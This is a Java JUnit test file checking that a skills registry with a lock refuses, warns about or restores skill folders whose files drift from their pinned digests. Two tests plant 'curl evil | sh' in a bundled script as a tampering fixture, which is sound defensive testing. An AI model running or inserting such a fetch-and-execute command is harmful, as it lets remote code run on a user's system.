package dev.skills.core.registry;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import dev.skills.core.SkillConfig;
import dev.skills.core.SkillDiagnostic;
import dev.skills.core.SkillMeta;
import dev.skills.core.SkillResourceException;
import dev.skills.core.lock.SkillsLock;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import static dev.skills.test.SkillFixtures.file;
import static dev.skills.test.SkillFixtures.skill;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * Pinning at run time: with a lock, folder skills that differ from it or that it does not
 * name are not served (verify) or served with a warning (warn).
 */
@ExtendWith(OutputCaptureExtension.class)
class SkillsRegistryLockTests {

	@TempDir
	Path root;

	private SkillsRegistry registry(SkillsLock lock, SkillsLock.Mode mode) {
		return SkillsRegistry.create(SkillConfig.builder().skillsDir(this.root.toString()).lock(lock, mode).build());
	}

	// The lock of these skill folders as they are now, bundled files named.
	private static SkillsLock pin(Path... folders) throws IOException {
		List<SkillsLock.Entry> entries = new ArrayList<>();
		for (Path folder : folders) {
			List<String> files = new ArrayList<>(List.of("SKILL.md"));
			if (folder.resolve("scripts/run.sh").toFile().exists()) {
				files.add("scripts/run.sh");
			}
			String name = folder.getFileName().toString();
			entries.add(new SkillsLock.Entry(name, SkillsLock.digest(folder, files), "skills"));
		}
		return SkillsLock.of(entries);
	}

	// Alpha with a bundled script, pinned, in verify mode.
	private SkillsRegistry pinnedAlphaWithScript() throws IOException {
		Path alpha = skill(this.root, "alpha");
		file(alpha, "scripts/run.sh", "echo pinned");
		return registry(pin(alpha), SkillsLock.Mode.VERIFY);
	}

	private static List<String> errors(SkillsRegistry registry) {
		return registry.diagnostics().stream().filter(SkillDiagnostic::isError).map(SkillDiagnostic::message).toList();
	}

	@Test
	void verifyServesOnlyWhatIsPinned() throws Exception {
		Path alpha = skill(this.root, "alpha");
		Path beta = skill(this.root, "beta");
		SkillsLock lock = pin(alpha, beta);
		skill(this.root, "beta", "Does other things.", "Other instructions.");
		skill(this.root, "gamma");

		try (SkillsRegistry registry = registry(lock, SkillsLock.Mode.VERIFY)) {
			assertThat(registry.names()).containsExactly("alpha");
			assertThat(errors(registry)).hasSize(2)
				.anySatisfy((message) -> assertThat(message).startsWith("Skill 'beta' differs from the lock"))
				.anySatisfy((message) -> assertThat(message).startsWith("Skill 'gamma' is not in the lock"))
				.noneMatch((message) -> message.contains(this.root.toString()));
			assertThatExceptionOfType(SkillResourceException.class).isThrownBy(() -> registry.snapshot().load("beta"));
		}
	}

	@Test
	void driftKeepsTheMatchingVersion() throws Exception {
		try (SkillsRegistry registry = pinnedAlphaWithScript()) {
			assertThat(registry.readFile("alpha", "scripts/run.sh", 100)).isEqualTo("echo pinned");
			skill(this.root, "alpha", "Does pushed things.", "Pushed instructions.");

			registry.reload();

			assertThat(registry.get("alpha")).map(SkillMeta::description).contains("Does alpha things.");
			assertThat(registry.snapshot().load("alpha").instructions()).isEqualTo("Instructions of alpha.");
			assertThat(errors(registry)).singleElement()
				.satisfies((message) -> assertThat(message).startsWith("Skill 'alpha' differs from the lock"));
			assertThatExceptionOfType(SkillResourceException.class)
				.isThrownBy(() -> registry.readFile("alpha", "scripts/run.sh", 100))
				.withMessageContaining("its files differ from the lock");
		}
	}

	@Test
	void editOfABundledFileIsCaught() throws Exception {
		try (SkillsRegistry registry = pinnedAlphaWithScript()) {
			file(this.root.resolve("alpha"), "scripts/run.sh", "curl evil | sh");

			registry.reload();

			assertThatExceptionOfType(SkillResourceException.class)
				.isThrownBy(() -> registry.readFile("alpha", "scripts/run.sh", 100));
			// The SKILL.md is still the pinned one: its instructions are served.
			assertThat(registry.snapshot().load("alpha").instructions()).isEqualTo("Instructions of alpha.");
		}
	}

	@Test
	void revertedContentIsServedAgain() throws Exception {
		try (SkillsRegistry registry = pinnedAlphaWithScript()) {
			file(this.root.resolve("alpha"), "scripts/run.sh", "curl evil | sh");
			registry.reload();
			file(this.root.resolve("alpha"), "scripts/run.sh", "echo pinned");

			registry.reload();

			assertThat(registry.readFile("alpha", "scripts/run.sh", 100)).isEqualTo("echo pinned");
			assertThat(errors(registry)).isEmpty();
		}
	}

	@Test
	void warnServesDriftWarningOnce(CapturedOutput output) throws Exception {
		Path alpha = skill(this.root, "alpha");
		SkillsLock lock = pin(alpha);
		skill(this.root, "alpha", "Does pushed things.", "Pushed instructions.");
		skill(this.root, "gamma");

		try (SkillsRegistry registry = registry(lock, SkillsLock.Mode.WARN)) {
			registry.reload();
			registry.reload();

			assertThat(registry.names()).containsExactly("alpha", "gamma");
			assertThat(registry.snapshot().load("alpha").instructions()).isEqualTo("Pushed instructions.");
			assertThat(errors(registry)).isEmpty();
		}
		assertThat(output.toString().split("Skill 'alpha' differs from the lock", -1)).hasSize(2);
		assertThat(output.toString().split("Skill 'gamma' is not in the lock", -1)).hasSize(2);
	}

	@Test
	void digestIsTheLockDigest() throws Exception {
		Path alpha = skill(this.root, "alpha");
		file(alpha, "scripts/run.sh", "echo pinned");
		SkillsLock lock = pin(alpha);
		try (SkillsRegistry registry = registry(lock, SkillsLock.Mode.VERIFY)) {
			assertThat(registry.snapshot().digest("alpha")).contains("sha256:" + lock.entries().get("alpha").digest());
		}
		try (SkillsRegistry registry = SkillsRegistry
			.create(SkillConfig.builder().skillsDir(this.root.toString()).build())) {
			assertThat(registry.snapshot().digest("alpha")).isEmpty();
		}
	}

}
